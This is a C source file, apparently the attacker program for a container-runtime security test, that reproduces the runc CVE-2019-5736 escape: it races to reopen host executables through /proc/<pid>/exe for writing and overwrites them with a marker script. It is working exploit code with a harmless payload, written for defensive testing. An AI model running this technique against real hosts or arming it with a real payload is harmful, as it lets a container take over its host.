/* The attacker of critest/security/binary-overwrite.test.ts, run as root inside a container
 * (built with `cc -static`, so it needs nothing from the image). It does what the runc
 * CVE-2019-5736 exploit does and reports every step on stdout, one line each:
 *
 *   exe-racer race [PID]   forever: scan /proc (or watch PID only) for processes whose executable
 *                          lives outside our own root filesystem, hold an O_PATH fd on each new
 *                          /proc/<pid>/exe, and keep trying to reopen every held one through
 *                          /proc/self/fd/N for writing (O_WRONLY|O_TRUNC, then O_RDWR); on
 *                          success, write a payload over it.
 *     OPENED <pid> <dev> <ino> <link>        got an fd on /proc/<pid>/exe
 *     WRITABLE <dev> <ino> <flags> <link>     reopened it for writing
 *     WROTE <dev> <ino> <bytes>               the payload is in
 *     WRITE-FAILED <dev> <ino> <errno text>   writable fd, but the write was refused
 *     DENIED <pid> <errno text>               /proc/<pid>/exe could not be opened (first time)
 *   exe-racer inspect      once: EXE <pid> <dev> <ino> <link> for every /proc/<pid>/exe we can
 *                          open, DENIED <pid> <errno text> for the others.
 *   exe-racer cwd          CWD <raw getcwd(2)> and FD <n> <link> for each open fd.
 *
 * <dev> is st_dev as one decimal number (what Node's fs.stat reports with bigint). The payload
 * is a shell script that fails loudly, so a host binary it replaced gives itself away. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAX_HELD 64
#define MAX_DENIED 4096

static const char payload[] = "#!/bin/sh\necho 'crib binary overwritten by exe-racer' >&2\nexit 99\n";

struct held {
  int fd;
  dev_t dev;
  ino_t ino;
  char link[256];
  int done; /* written or refused: stop trying */
};

static struct held held[MAX_HELD];
static int nheld;
static int denied[MAX_DENIED];
static int ndenied;
static dev_t own_dev;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...) {
  char line[512];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(line, sizeof line - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > (int)sizeof line - 2) n = (int)sizeof line - 2;
  line[n++] = '\n';
  /* One write per line: the CRI log must never interleave half lines. */
  if (write(1, line, (size_t)n) < 0) _exit(3);
}

static int seen_denied(int pid) {
  for (int i = 0; i < ndenied; i++)
    if (denied[i] == pid) return 1;
  if (ndenied < MAX_DENIED) denied[ndenied++] = pid;
  return 0;
}

static void look_at(int pid) {
  char path[64], link[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    if (errno != ENOENT && errno != ESRCH && !seen_denied(pid)) say("DENIED %d %s", pid, strerror(errno));
    return;
  }
  struct stat st;
  if (fstat(fd, &st) < 0 || st.st_dev == own_dev) { /* our image's own files: not the target */
    close(fd);
    return;
  }
  for (int i = 0; i < nheld; i++)
    if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
      close(fd);
      return;
    }
  ssize_t n = readlink(path, link, sizeof link - 1);
  link[n < 0 ? 0 : n] = '\0';
  say("OPENED %d %llu %llu %s", pid, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, link);
  if (nheld == MAX_HELD) {
    close(fd);
    return;
  }
  held[nheld] = (struct held){.fd = fd, .dev = st.st_dev, .ino = st.st_ino};
  snprintf(held[nheld].link, sizeof held[nheld].link, "%s", link);
  nheld++;
}

static void try_write(struct held *h) {
  static const struct { int flags; const char *name; } modes[] = {
      {O_WRONLY | O_TRUNC, "O_WRONLY|O_TRUNC"}, {O_RDWR, "O_RDWR"}};
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
  for (size_t m = 0; m < 2; m++) {
    int w = open(path, modes[m].flags | O_CLOEXEC);
    if (w < 0) continue; /* ETXTBSY while anyone runs it: the race goes on */
    say("WRITABLE %llu %llu %s %s", (unsigned long long)h->dev, (unsigned long long)h->ino,
        modes[m].name, h->link);
    ssize_t n = write(w, payload, sizeof payload - 1);
    if (n < 0) say("WRITE-FAILED %llu %llu %s", (unsigned long long)h->dev, (unsigned long long)h->ino, strerror(errno));
    else say("WROTE %llu %llu %zd", (unsigned long long)h->dev, (unsigned long long)h->ino, n);
    close(w);
    h->done = 1;
    return;
  }
}

static void scan(void) {
  DIR *d = opendir("/proc");
  if (!d) {
    say("ERROR opendir /proc: %s", strerror(errno));
    exit(2);
  }
  struct dirent *e;
  int self = getpid();
  while ((e = readdir(d)) != NULL) {
    int pid = atoi(e->d_name);
    if (pid > 0 && pid != self) look_at(pid);
  }
  closedir(d);
}

static _Noreturn void cmd_race(int only_pid) {
  say("RACING");
  for (;;) {
    if (only_pid > 0) look_at(only_pid);
    else scan();
    for (int i = 0; i < nheld; i++)
      if (!held[i].done) try_write(&held[i]);
  }
}

static int cmd_inspect(void) {
  DIR *d = opendir("/proc");
  if (!d) return 2;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
      if (errno != ENOENT && errno != ESRCH) say("DENIED %d %s", pid, strerror(errno));
      continue;
    }
    struct stat st;
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n < 0 ? 0 : n] = '\0';
    if (fstat(fd, &st) == 0)
      say("EXE %d %llu %llu %s", pid, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, link);
    close(fd);
  }
  closedir(d);
  say("DONE");
  return 0;
}

static int cmd_cwd(void) {
  char buf[4096];
  /* The raw syscall: glibc's getcwd hides "(unreachable)" behind ENOENT. */
  long n = syscall(SYS_getcwd, buf, sizeof buf);
  say("CWD %s", n < 0 ? strerror(errno) : buf);
  DIR *d = opendir("/proc/self/fd");
  if (!d) return 2;
  int skip = dirfd(d);
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.' || atoi(e->d_name) == skip) continue;
    char path[300], link[256];
    snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
    ssize_t k = readlink(path, link, sizeof link - 1);
    link[k < 0 ? 0 : k] = '\0';
    say("FD %s %s", e->d_name, link);
  }
  closedir(d);
  say("DONE");
  return 0;
}

int main(int argc, char **argv) {
  struct stat self;
  if (stat("/proc/self/exe", &self) < 0) return 2;
  own_dev = self.st_dev;
  if (argc >= 2 && strcmp(argv[1], "race") == 0) cmd_race(argc >= 3 ? atoi(argv[2]) : 0);
  if (argc >= 2 && strcmp(argv[1], "inspect") == 0) return cmd_inspect();
  if (argc >= 2 && strcmp(argv[1], "cwd") == 0) return cmd_cwd();
  fprintf(stderr, "usage: exe-racer race [PID] | inspect | cwd\n");
  return 2;
}
